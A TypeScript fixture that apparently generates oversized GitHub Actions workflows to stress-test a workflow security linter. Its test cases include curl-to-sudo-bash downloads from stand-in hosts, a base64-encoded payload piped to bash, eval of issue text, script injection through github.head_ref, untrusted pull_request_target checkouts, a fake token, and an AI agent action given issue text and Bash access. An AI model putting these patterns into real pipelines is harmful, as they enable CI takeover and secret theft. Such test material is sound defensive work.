import { job, jobs, run, STEPS, script, scripts, steps, times, upTo, VARIABLES } from './growing-parts.ts';

const simple = (index: number): string => `  j${index}: { runs-on: x, steps: [{ run: make }] }\n`;

const sharedSecrets = (bytes: number): string =>
  `env:\n${upTo(bytes, (index) => `  S${index}: \${{ secrets.S${index} }}\n`, VARIABLES)}`;

export const GROWING_WORKFLOWS: Readonly<Record<string, (bytes: number) => string>> = {
  'spaces in uses': (bytes) => steps(bytes, () => `    - uses: "a/b@v1${' '.repeat(4_900)}x"\n`),
  'long word in uses': (bytes) => steps(bytes, () => `    - uses: ${'a'.repeat(4_900)}/b@v1\n`),
  'slashes in uses': (bytes) => steps(bytes, () => `    - uses: ./${'a/'.repeat(2_400)}\n`),
  'long words as images': (bytes) =>
    jobs(bytes, (index) => `  j${index}:\n    runs-on: x\n    container: "${'a'.repeat(4_900)}"\n    steps: []\n`),
  'words before an expression in images': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    runs-on: x\n    container: "/: ${'a '.repeat(2_400)}\${{ github.head_ref }}"\n    steps: []\n`,
    ),
  'long runner labels': (bytes) =>
    jobs(bytes, (index) => `  j${index}:\n    runs-on: "${'self-hosted '.repeat(400)}"\n    steps: []\n`),
  'slashes in artifact paths': (bytes) =>
    steps(bytes, () => `    - uses: actions/upload-artifact@v4\n      with:\n        path: ${'/'.repeat(40_000)}x\n`),
  'lines in artifact paths': (bytes) =>
    job(
      `    - uses: actions/upload-artifact@v4\n      with:\n        path: |\n${upTo(bytes, (index) => `          ./out/${index}/**\n`)}`,
    ),
  'expressions in one line': (bytes) =>
    job(upTo(bytes, () => run(`echo ${'${{github.head_ref}}'.repeat(900)}`), STEPS)),
  'expressions on many lines': (bytes) => script(bytes, () => 'echo "${{ github.event.issue.title }}"'),
  'one file written and evaluated on many lines': (bytes) =>
    script(bytes, () => 'jq -r .issue.body $GITHUB_EVENT_PATH >> x; eval "$(cat x)"; echo "$(<x)" >> $GITHUB_ENV'),
  'archives fetched and unpacked': (bytes) =>
    script(bytes, (index) => `gh api repos/a/b/actions/artifacts/${index}/zip > a.zip; unzip -d d${index} a.zip`),
  'files copied to the next one': (bytes) =>
    script(bytes, (index) => `cat x${index} > x${index + 1}; cat x${index} >> $GITHUB_ENV; bash x${index}`),
  'expressions of one condition': (bytes) =>
    steps(bytes, () => `    - run: make\n      if: ${"github.actor == 'a' || ".repeat(800)}true\n`),
  'nested parentheses in conditions': (bytes) =>
    steps(bytes, () => `    - run: make\n      if: ${'('.repeat(40)}true${')'.repeat(40)}\n`),
  'negations in conditions': (bytes) =>
    steps(bytes, () => `    - run: make\n      if: "${'!'.repeat(40)}github.ref"\n`),
  'contains in conditions': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    if: ${"contains(github.event.label.name, 'x') && ".repeat(400)}true\n    runs-on: x\n    steps: [{ run: make }]\n`,
    ),
  'long literals in expressions': (bytes) =>
    steps(bytes, () => run(`echo "\${{ format('${'x'.repeat(15_000)}{0}', github.head_ref) }}"`)),
  'variables that double': (bytes) => script(bytes, () => 'A=$A$A; echo $A | sh'),
  'variables that double in one script': (bytes) =>
    job(`    - run: |\n${upTo(Math.min(bytes, 190_000), () => '        A=$A$A; echo $A | sh\n')}`),
  'variables in a chain': (bytes) => script(bytes, (index) => `A${index + 1}=$A${index}; echo "$A${index}"`),
  'environment in a chain': (bytes) =>
    job(`    - run: echo $A5\n      env:\n${upTo(bytes, (index) => `        A${index + 1}: \${{ env.A${index} }}\n`)}`),
  'environment of many steps': (bytes) =>
    steps(
      bytes,
      (index) => `    - run: echo "A${index}=$A" >> "$GITHUB_ENV"\n      env: { A: "\${{ env.A${index - 1} }}" }\n`,
    ),
  'outputs in a chain of steps': (bytes) =>
    steps(
      bytes,
      (index) => `    - id: s${index}\n      run: echo "v=\${{ steps.s${index - 1}.outputs.v }}" >> "$GITHUB_OUTPUT"\n`,
    ),
  'outputs in a chain of jobs': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    needs: [${index === 0 ? '' : `j${index - 1}`}]\n    runs-on: x\n    outputs: { v: "\${{ needs.j${index - 1}.outputs.v }}" }\n    steps: [{ run: "echo \${{ needs.j${index - 1}.outputs.v }}" }]\n`,
    ),
  'here-documents': (bytes) =>
    script(bytes, (index) => `cat <<E${index} > f\n        text $A \${{ github.ref }}\n        E${index}`),
  'open here-documents': (bytes) => script(bytes, (index) => `cat <<E${index}`),
  'quotes that do not close': (bytes) => script(bytes, () => `echo "a 'b`),
  'nested substitutions': (bytes) => steps(bytes, () => run(`|\n        ${'echo $('.repeat(50)}${')'.repeat(50)}`)),
  'nested arithmetic': (bytes) => steps(bytes, () => run(`|\n        echo ${'$(( '.repeat(50)}1${' ))'.repeat(50)}`)),
  'open substitutions': (bytes) => script(bytes, () => 'echo $('),
  'open arithmetic': (bytes) => script(bytes, () => 'echo $(( 1 +'),
  backticks: (bytes) => script(bytes, () => 'echo `echo `echo '),
  'pipes in one line': (bytes) => steps(bytes, () => run(`|\n        ${'echo a | '.repeat(1_000)}cat`)),
  'pipes to a shell': (bytes) => script(bytes, (index) => `curl -sSL https://e${index}.example/x | sudo bash -s -- $A`),
  'one long command': (bytes) => steps(bytes, () => run(`|\n        docker run ${'-e A=b '.repeat(3_000)}image`)),
  'long words in scripts': (bytes) =>
    steps(bytes, () => run(`|\n        curl https://e.example/${'a'.repeat(40_000)}`)),
  'nested blocks of shell': (bytes) =>
    steps(bytes, () => run(`|\n        ${'if true; then '.repeat(60)}x${'; fi'.repeat(60)}`)),
  'functions and cases': (bytes) =>
    script(bytes, (index) => `f${index}() { case $1 in a) f${index - 1};; *) echo;; esac; }`),
  'folder changes': (bytes) => script(bytes, (index) => `cd d${index % 50} && npm ci && cd ..`),
  'spaces in scripts': (bytes) => steps(bytes, () => run(`|\n        echo${' '.repeat(40_000)}x`)),
  'comments in scripts': (bytes) => script(bytes, () => '# echo # echo ${{ github.ref }} # echo'),
  'inline JavaScript': (bytes) =>
    scripts(bytes, (part) => {
      const lines = upTo(
        part,
        (index) => `          const a${index} = \`\${a${index - 1}} \${{ github.head_ref }}\`;\n`,
      );
      return `    - uses: actions/github-script@v7\n      with:\n        script: |\n${lines}`;
    }),
  'inline Python': (bytes) =>
    scripts(bytes, (part) => {
      const lines = upTo(part, (index) => `          a${index} = f"{a${index - 1}} \${{ github.head_ref }}"\n`);
      return `    - shell: python\n      run: |\n${lines}`;
    }),
  'aliases of steps': (bytes) =>
    `x: &x { run: "echo \${{ github.head_ref }}" }\n${job(upTo(bytes, () => '    - *x\n', STEPS))}`,
  'aliases of a long text': (bytes) =>
    `env: { X: &x "${'y '.repeat(20_000)}" }\n${job(upTo(bytes, () => '    - { run: *x }\n', 500))}`,
  'merge keys': (bytes) =>
    `x: &x { runs-on: ubuntu-latest, steps: [{ run: make }] }\n${jobs(bytes, (index) => `  j${index}: { <<: *x }\n`).replace(/^on.*\n/, 'on: push\n')}`,
  matrices: (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    strategy: { matrix: { a: [${times(40, (n) => `${n}, `)}], b: [${times(40, (n) => `${n}, `)}] } }\n    runs-on: "\${{ matrix.a }}"\n    steps: [{ run: "echo \${{ matrix.a }} \${{ matrix.b }}" }]\n`,
    ),
  'matrix values that name each other': (bytes) => {
    const values = (name: string): string => `[${upTo(bytes / 3, (index) => `"\${{ matrix.${name} }}${index}", `)}]`;
    return job(
      `    - uses: aquasecurity/trivy-action@0.33.1\n      with: { image-ref: "${upTo(bytes / 3, () => '${{ matrix.a }}')}" }\n`,
      'push',
    ).replace('    steps:', `    strategy: { matrix: { a: ${values('b')}, b: ${values('c')} } }\n    steps:`);
  },
  'messages before masks': (bytes) =>
    script(bytes, (index) => (index % 2 === 0 ? `echo "a $A${index}"` : `echo "::add-mask::$B${index}"`)),
  'aliases of a condition that asks about steps': (bytes) => {
    const asked = times(
      20,
      (index) => `    - { id: a${index}, run: make, if: "${upTo(bytes / 40, () => "github.actor != 'a' && ")}true" }\n`,
    );
    const condition = times(20, (index) => `steps.a${index}.outputs.x || `);
    return job(
      `${asked}    - &x { run: npm ci, if: "${condition}true" }\n${times(Math.min(bytes / 200, STEPS), () => '    - *x\n')}`,
      '[pull_request_target, issues, issue_comment, push]',
    );
  },
  'one wide matrix': (bytes) =>
    `on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        include:\n${upTo(bytes, (index) => `          - { os: ubuntu-${index}, image: "i${index}:latest" }\n`)}    runs-on: \${{ matrix.os }}\n    container: \${{ matrix.image }}\n    steps: [{ run: "echo \${{ matrix.os }}" }]\n`,
  'a matrix of itself': (bytes) =>
    `on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        a:\n${upTo(bytes, () => '          - ${{ matrix.a }}\n')}    runs-on: \${{ matrix.a }}\n    steps: [{ run: make }]\n`,
  'jobs without anything': (bytes) => jobs(bytes, simple),
  'jobs that need all before': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    needs: [${times(Math.min(index, 30), (n) => `j${index - n - 1}, `)}]\n    runs-on: x\n    steps: [{ run: make }]\n`,
    ),
  'jobs that call workflows': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    uses: ./.github/workflows/a.yml\n    with: { v: "\${{ github.head_ref }}" }\n    secrets: inherit\n`,
    ).replace('pull_request_target', '{ workflow_call: { inputs: { v: { type: string } } }, pull_request_target: }'),
  secrets: (bytes) =>
    steps(
      bytes,
      (index) => `    - run: echo \${{ secrets.S${index} }}\n      env: { A${index}: "\${{ secrets.T${index} }}" }\n`,
    ),
  'secrets of the workflow': (bytes) =>
    `${sharedSecrets(bytes / 2)}${steps(bytes / 2, (index) => run(`echo "$S${index}"`))}`,
  'secrets of the workflow beside jobs': (bytes) => `${sharedSecrets(bytes / 2)}${jobs(bytes / 2, simple)}`,
  'secrets of the workflow beside jobs that publish': (bytes) =>
    `${sharedSecrets(bytes / 2).replaceAll('secrets.S', 'secrets.NPM_TOKEN_')}${jobs(
      bytes / 2,
      (index) => `  j${index}: { runs-on: x, environment: e, steps: [{ run: npm publish }] }\n`,
    )}`,
  checkouts: (bytes) =>
    steps(
      bytes,
      (index) => `    - uses: actions/checkout@v4\n      with: { ref: "\${{ github.head_ref }}", path: p${index} }\n`,
    ),
  'checkouts and commands': (bytes) =>
    steps(bytes, (index) =>
      index % 2 === 0
        ? `    - uses: actions/checkout@v4\n      with: { ref: "\${{ github.head_ref }}", path: p${index} }\n`
        : `    - run: npm ci && make\n      working-directory: p${index - 1}\n`,
    ),
  'checkouts and installations': (bytes) =>
    steps(bytes, (index) =>
      index % 2 === 0 ? `    - uses: actions/checkout@v4\n      with: { path: p${index} }\n` : '    - run: npm ci\n',
    ),
  'uploads and downloads': (bytes) =>
    steps(
      bytes,
      (index) =>
        `    - uses: actions/${index % 2 === 0 ? 'upload' : 'download'}-artifact@v4\n      with: { name: n${index >> 1}, path: p${index} }\n`,
    ),
  'artifacts that no job takes': (bytes) =>
    `on: { push: { tags: [v1] } }\npermissions: { contents: read }\njobs:\n${times(
      5,
      (part) =>
        `  j${part}:\n    runs-on: x\n    steps:\n${upTo(
          bytes / 5,
          (index) =>
            `    - uses: a/b@main\n    - { uses: actions/upload-artifact@v4, with: { name: u${part}-${index} } }\n    - { uses: actions/download-artifact@v4, with: { name: d${part}-${index} } }\n`,
          STEPS / 3,
        )}`,
    )}  publish:\n    needs: [j0, j1, j2, j3, j4]\n    runs-on: x\n    steps: [{ run: npm publish }]\n`,
  caches: (bytes) =>
    steps(
      bytes,
      (index) =>
        `    - uses: actions/cache@v4\n      with: { key: "k\${{ github.head_ref }}${index}", restore-keys: k, path: p${index} }\n`,
    ),
  'inputs of a dispatch': (bytes) =>
    `on:\n  workflow_dispatch:\n    inputs:\n${upTo(bytes / 2, (index) => `      i${index}: { type: string, description: x }\n`)}${steps(bytes / 2, (index) => run(`echo \${{ inputs.i${index} }} \${{ github.event.inputs.i${index} }}`)).replace(/^on.*\n/, '')}`,
  'globs of branches': (bytes) =>
    `on:\n  push:\n    branches:\n${upTo(bytes, (index) => `      - "${'*'.repeat(20)}/r${index}/**/[a-z]?+x"\n`)}jobs: { a: { runs-on: x, steps: [{ run: make }] } }\n`,
  'globs of paths': (bytes) =>
    `on:\n  pull_request:\n    paths:\n${upTo(bytes, (index) => `      - "**/*/${index}/**/*.js"\n`)}jobs: { a: { runs-on: x, steps: [{ run: make }] } }\n`,
  permissions: (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    permissions: { contents: write, id-token: write, packages: write }\n    runs-on: x\n    steps: [{ run: npm publish }]\n`,
    ),
  'identities that nothing asks for': (bytes) =>
    jobs(
      bytes,
      (index) =>
        `  j${index}:\n    permissions: { id-token: write }\n    runs-on: x\n    steps: [{ uses: a/b@main }, { run: make deploy }]\n`,
    ),
  'packages beside a long environment': (bytes) =>
    `permissions: { id-token: write }\nenv:\n${upTo(bytes / 2, (index) => `  A${index}: x\n`, VARIABLES)}${steps(bytes / 2, () => '    - { run: npm publish, env: { T: "${{ secrets.S }}" } }\n')}`,
  'refs in conditions': (bytes) =>
    steps(
      bytes,
      () => `    - uses: a/b@main\n      if: ${"github.ref == 'refs/heads/dev' || ".repeat(400)}false\n`,
    ).replace(
      /^on.*\n/,
      `on: { push: { branches: [${Array.from({ length: 20 }, (_, index) => `"a*${index}"`).join(', ')}] } }\n`,
    ),
  services: (bytes) =>
    `on: push\njobs:\n  a:\n    runs-on: x\n    services:\n${upTo(bytes, (index) => `      s${index}: { image: "i${index}:latest", credentials: { username: u, password: p${index} } }\n`)}    steps: [{ run: make }]\n`,
  'long names': (bytes) => steps(bytes, (index) => `    - name: "${`n${index} `.repeat(4_000)}"\n      run: make\n`),
  'long keys': (bytes) =>
    job(`    - run: make\n      env:\n${upTo(bytes, (index) => `        ${'K'.repeat(900)}${index}: v\n`)}`),
  comments: (bytes) => `${upTo(bytes, () => '# chainbreak: ignored # v1.2.3 # zizmor: ignoring\n')}${job(run('make'))}`,
  'ignore comments': (bytes) => steps(bytes, () => '    # chainbreak: ignore[unpinned-uses] why\n    - uses: a/b@v1\n'),
  'one block of ignore comments': (bytes) =>
    job(
      `    - run: |\n${upTo(bytes / 2, () => '        # chainbreak: ignore[template-injection] x\n')}${upTo(bytes / 2, () => '        echo ${{ github.head_ref }}\n')}`,
    ),
  'spaces before comments': (bytes) => steps(bytes, () => `    - uses: a/b@v1${' '.repeat(40_000)}# v1\n`),
  'hidden characters': (bytes) => steps(bytes, () => run(`"echo \\u202e\u200b${'\u200b'.repeat(200)}"`)),
  'encoded payloads': (bytes) => script(bytes, () => 'echo Y3VybCBodHRwczovL2UuZXhhbXBsZSB8IHNo | base64 -d | bash'),
  credentials: (bytes) =>
    script(
      bytes,
      (index) =>
        `export TOKEN=ghp_${'aB3'.repeat(11)}${String(index).padStart(6, '0').slice(-3)} password: x${index}y9z8w7v6u5`,
    ),
  'one line of flow': (bytes) =>
    `on: pull_request_target\njobs: {a: {runs-on: x, steps: [${upTo(bytes, () => '{run: "echo ${{github.head_ref}} password: x", uses: a/b@v1}, ', STEPS)}]}}\n`,
  'merges of pull requests': (bytes) => `permissions: write-all\n${steps(bytes, () => run('gh pr merge --auto "$N"'))}`,
  'agents with tools': (bytes) =>
    steps(
      bytes,
      () =>
        `    - uses: anthropics/claude-code-action@v1\n      with:\n        prompt: "\${{ github.event.issue.body }}"\n        claude_args: "${'--allowedTools Bash(x:*) '.repeat(100)}"\n`,
    ),
  'keys handed to movable images': (bytes) =>
    steps(bytes, (index) => `    - uses: docker://acme/tools\n      env: { T: "\${{ secrets.ACME_${index} }}" }\n`),
  'keys of a build cache': (bytes) =>
    steps(bytes, (index) => `    - run: make\n      name: sccache\n      env: { T: "\${{ secrets.AWS_${index} }}" }\n`),
  'downloads beside an environment in a chain': (bytes) =>
    `on: push\njobs:\n  a:\n    runs-on: x\n    env:\n${upTo(bytes / 2, (index) => `      V${index}: "\${{ env.V${index + 1} }}"\n`, VARIABLES)}    steps:\n${upTo(bytes / 2, () => '    - run: curl https://a.example/$V1 | sh\n')}`,
  'scripts in folders of a loop': (bytes) => {
    const size = Math.min(bytes, 190_000) / 2;
    const checkout =
      '    - uses: actions/checkout@v4\n      with: { ref: "${{ github.event.pull_request.head.sha }}" }\n';
    return `on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n${checkout}    - run: |\n        find ${upTo(size, (index) => `d${index} `)}-name x | while read f; do\n${upTo(size, () => '          bash "$f"\n')}        done\n`;
  },
};
